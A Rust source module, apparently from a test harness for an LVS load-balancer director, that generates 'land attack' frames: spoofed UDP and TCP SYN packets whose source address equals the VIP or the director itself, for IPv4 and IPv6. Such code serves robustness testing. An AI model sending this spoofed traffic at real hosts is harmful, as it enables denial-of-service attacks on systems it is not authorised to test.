//! The land attack: packets whose source is an address of the director.

use lvs_packet::frame::Frame;

use super::frames::{Kind, SYN, ethernet, packet};
use super::{Target, Volley};

/// In turn, for IPv4 and IPv6: UDP from the VIP's echo service to itself, UDP from the director's
/// own address to the echo service, and a SYN from the VIP's web service to itself.
pub(super) struct Land {
    target: Target,
    n: usize,
}

impl Land {
    pub(super) fn volley(target: &Target) -> Box<dyn Volley> {
        Box::new(Self {
            target: *target,
            n: 0,
        })
    }
}

impl Volley for Land {
    fn next(&mut self) -> Frame {
        let target = &self.target;
        let (udp, tcp) = (target.service4(7), target.service4(80));
        let (udp6, tcp6) = (target.service6(7), target.service6(80));
        let cases = [
            (udp, udp, Kind::Udp),
            ((target.director4, 7).into(), udp, Kind::Udp),
            (tcp, tcp, Kind::Tcp(SYN)),
            (udp6, udp6, Kind::Udp),
            ((target.director6, 7).into(), udp6, Kind::Udp),
            (tcp6, tcp6, Kind::Tcp(SYN)),
        ];
        let (src, dst, kind) = cases[self.n % cases.len()];
        self.n += 1;
        let data: &[u8] = if matches!(kind, Kind::Udp) {
            b"round and round"
        } else {
            &[]
        };
        ethernet(target, &packet(src, dst, kind, data))
    }
}
